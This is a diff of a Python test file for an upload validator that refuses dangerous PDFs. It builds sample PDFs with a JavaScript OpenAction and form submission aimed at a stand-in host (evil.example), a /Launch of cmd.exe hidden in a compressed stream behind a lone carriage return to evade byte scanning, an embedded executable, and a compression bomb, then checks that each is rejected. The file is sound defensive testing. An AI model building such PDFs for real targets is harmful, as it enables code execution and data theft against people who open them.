@@ -7,11 +7,11 @@ import uuid
 import zlib
 from collections.abc import AsyncIterator
 from pathlib import Path
+from typing import Any
 
 import pytest
 from PIL import Image
 
-from mindlinks.platform import uploads
 from mindlinks.platform.errors import PayloadTooLarge, ValidationFailed
 from mindlinks.platform.storage import LocalStorage, UrlSigner, store_upload, validate_key
 from mindlinks.platform.uploads import (
@@ -79,7 +79,7 @@ async def test_html_pdf_polyglot_pdf_first_is_caught_by_the_markup_scan() -> Non
 
 
 async def test_markup_split_across_chunks_is_still_found() -> None:
-    before = samples.MINIMAL_PDF.index(b"trailer")
+    before = samples.MINIMAL_PDF.index(b"xref")  # where samples.pdf puts its body
     filler = b"%" + b"A" * (64 * 1024 - 3 - before - 1)
     sample = samples.pdf(filler + b"<SCRIPT>x</script>")
     # The marker straddles the 64 KiB boundary the reader chunks on.
@@ -219,11 +219,14 @@ async def test_pdf_that_launches_a_program_is_refused() -> None:
     assert (await _rejected(embedded)).code == "unsafe_pdf"
 
 
-def _object_stream(objects: bytes, *, filters: bytes = b"/FlateDecode") -> bytes:
-    """An object stream (PDF 1.5) holding `objects`, Flate-compressed."""
+def _object_stream(
+    objects: bytes, *, filters: bytes = b"/FlateDecode", eol: bytes = b"\n"
+) -> bytes:
+    """An object stream (PDF 1.5) holding `objects` as object 5, Flate-compressed; `eol` is
+    what follows the `stream` keyword."""
     packed = zlib.compress(b"5 0 " + objects)
     return (b"4 0 obj<</Type/ObjStm/N 1/First 4/Filter " + filters
-            + b"/Length " + str(len(packed)).encode() + b">>stream\n" + packed
+            + b"/Length " + str(len(packed)).encode() + b">>stream" + eol + packed
             + b"\nendstream endobj")
 
 
@@ -242,22 +245,138 @@ async def test_pdf_dangers_hidden_by_escapes_or_compression_are_refused() -> Non
     assert (await _rejected(untyped)).code == "unsafe_pdf"
 
 
-async def test_harmless_compressed_pdf_is_accepted() -> None:
-    harmless = samples.pdf(_object_stream(b"<</Type/Annot/Subtype/Link/A<</S/URI/URI(x)>>>>"))
-    upload = await validate_upload(FakeUploadFile(harmless, "ok.pdf"), DOCUMENT,
-                                   filename="ok.pdf")
-    assert upload.mime == "application/pdf"
+async def test_launch_in_a_flate_stream_after_a_lone_cr_is_refused() -> None:
+    """`stream` followed by CR alone got past the byte scanner (it looked for LF)."""
+    sneaky = samples.pdf(_object_stream(b"<</S/Launch/F(cmd.exe)>>", eol=b"\r"))
+    assert b"Launch" not in sneaky
+    rejected = await _rejected(sneaky)
+    assert rejected.code == "unsafe_pdf" and "/Launch" in rejected.detail
+
+
+def _pypdf(build: Any) -> bytes:
+    """A one-page PDF written by pypdf after `build(writer)` added its part."""
+    from pypdf import PdfWriter
+
+    writer = PdfWriter()
+    writer.add_blank_page(200, 200)
+    build(writer)
+    out = io.BytesIO()
+    writer.write(out)
+    return out.getvalue()
+
+
+def _annotation(writer: Any, annotation: dict[str, Any]) -> None:
+    from pypdf.generic import ArrayObject, DictionaryObject, NameObject, NumberObject
+
+    def pdf_value(value: Any) -> Any:
+        if isinstance(value, dict):
+            return DictionaryObject({NameObject(k): pdf_value(v) for k, v in value.items()})
+        if isinstance(value, list):
+            return ArrayObject([pdf_value(v) for v in value])
+        if isinstance(value, int):
+            return NumberObject(value)
+        if isinstance(value, str) and value.startswith("/"):
+            return NameObject(value)
+        from pypdf.generic import TextStringObject
+
+        return TextStringObject(value)
+
+    annot = pdf_value({"/Type": "/Annot", "/Rect": [10, 10, 100, 40], **annotation})
+    page = writer.pages[0]
+    page[NameObject("/Annots")] = ArrayObject([writer._add_object(annot)])
+
+
+def _open_action_javascript(w: Any) -> None:
+    from pypdf.generic import DictionaryObject, NameObject, TextStringObject
+
+    w._root_object[NameObject("/OpenAction")] = w._add_object(DictionaryObject({
+        NameObject("/S"): NameObject("/JavaScript"),
+        NameObject("/JS"): TextStringObject("app.launchURL('https://evil.example');"),
+    }))
+
+
+def _xfa_form(w: Any) -> None:
+    from pypdf.generic import ArrayObject, DecodedStreamObject, DictionaryObject, NameObject
+
+    xfa = DecodedStreamObject()
+    xfa.set_data(b"<xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'></xdp:xdp>")
+    w._root_object[NameObject("/AcroForm")] = DictionaryObject({
+        NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): w._add_object(xfa),
+    })
+
+
+ACTIVE_PDFS = {
+    "/JavaScript": _open_action_javascript,
+    "/URI": lambda w: _annotation(w, {"/Subtype": "/Link",
+                                      "/A": {"/S": "/URI", "/URI": "https://evil.example"}}),
+    "/SubmitForm": lambda w: _annotation(w, {"/Subtype": "/Widget", "/FT": "/Btn",
+                                             "/A": {"/S": "/SubmitForm",
+                                                    "/F": "https://evil.example/c"}}),
+    "/GoToR": lambda w: _annotation(w, {"/Subtype": "/Link",
+                                        "/A": {"/S": "/GoToR", "/F": "other.pdf",
+                                               "/D": [0, "/Fit"]}}),
+    "/XFA": _xfa_form,
+    "/RichMedia": lambda w: _annotation(w, {"/Subtype": "/RichMedia",
+                                            "/RichMediaContent": {"/Assets": {}}}),
+    "/Launch": lambda w: _annotation(w, {"/Subtype": "/Link", "/AA": {
+        "/E": {"/S": "/Launch", "/F": "cmd.exe"}}}),
+}
+
+
+@pytest.mark.parametrize("marker", sorted(ACTIVE_PDFS))
+async def test_pdf_with_active_content_is_refused(marker: str) -> None:
+    pdf = _pypdf(ACTIVE_PDFS[marker])
+    rejected = await _rejected(pdf, filename="a.pdf")
+    assert rejected.code == "unsafe_pdf", rejected.detail
+    assert marker in rejected.detail
+
+
+async def test_pypdf_open_action_and_attachment_are_refused() -> None:
+    from pypdf.actions import JavaScript
+
+    script = _pypdf(lambda w: w.add_open_action(JavaScript("app.alert(1);")))
+    rejected = await _rejected(script, filename="a.pdf")
+    assert rejected.code == "unsafe_pdf" and "/JavaScript" in rejected.detail
+    attached = _pypdf(lambda w: w.add_attachment("run.exe", b"MZ"))
+    rejected = await _rejected(attached, filename="a.pdf")
+    assert rejected.code == "unsafe_pdf" and "/EmbeddedFile" in rejected.detail
+
+
+async def test_encrypted_pdf_is_refused() -> None:
+    pdf = _pypdf(lambda w: w.encrypt(user_password="", owner_password="owner", algorithm="AES-128"))
+    assert (await _rejected(pdf, filename="a.pdf")).code == "encrypted_pdf"
+
+
+async def test_inert_pdfs_are_accepted() -> None:
+    """Links inside the document, outlines and a compressed object stream are not active."""
+    def inner_link(w: Any) -> None:
+        w.add_blank_page(200, 200)
+        _annotation(w, {"/Subtype": "/Link", "/A": {"/S": "/GoTo", "/D": [0, "/Fit"]}})
+        w.add_outline_item(title="Page 2", page_number=1)
+
+    for pdf in (_pypdf(inner_link), samples.pdf(_object_stream(b"<</Type/Annot/Subtype/Text>>"))):
+        upload = await validate_upload(FakeUploadFile(pdf, "ok.pdf"), DOCUMENT, filename="ok.pdf")
+        assert upload.mime == "application/pdf"
+        assert upload.content.read() == pdf
 
 
 async def test_pdf_compression_bomb_is_refused(monkeypatch: pytest.MonkeyPatch) -> None:
-    """Inflating is capped in total: past the cap the PDF is refused, not inflated further."""
-    monkeypatch.setattr(uploads, "_PDF_INFLATE_BUDGET", 1024 * 1024)
-    bomb = zlib.compress(b" " * (2 * 1024 * 1024), 9)
-    pdf = samples.pdf(b"4 0 obj<</Filter/FlateDecode/Length " + str(len(bomb)).encode()
-                      + b">>stream\n" + bomb + b"\nendstream endobj")
+    """Object streams are inflated within a budget: past it the PDF is refused, not inflated
+    further. (Content streams are never inflated at all.)"""
+    from mindlinks.platform import pdf_safety
+
+    monkeypatch.setattr(pdf_safety, "MAX_INFLATED_BYTES", 1024 * 1024)
+    bomb = zlib.compress(b"5 0 " + b" " * (2 * 1024 * 1024), 9)
+    pdf = samples.pdf(b"4 0 obj<</Type/ObjStm/N 1/First 4/Filter/FlateDecode/Length "
+                      + str(len(bomb)).encode() + b">>stream\n" + bomb + b"\nendstream endobj")
     assert len(pdf) < 20_000
     rejected = await _rejected(pdf)
     assert rejected.code == "unsafe_pdf" and "too large" in rejected.detail
+
+
+async def test_unparseable_pdf_is_refused() -> None:
+    garbage = b"%PDF-1.4\n" + b"\x00garbage" * 50 + b"\n%%EOF\n"
+    assert (await _rejected(garbage)).code == "corrupt_file"
 
 
 async def test_truncated_pdf_and_image_are_refused() -> None:
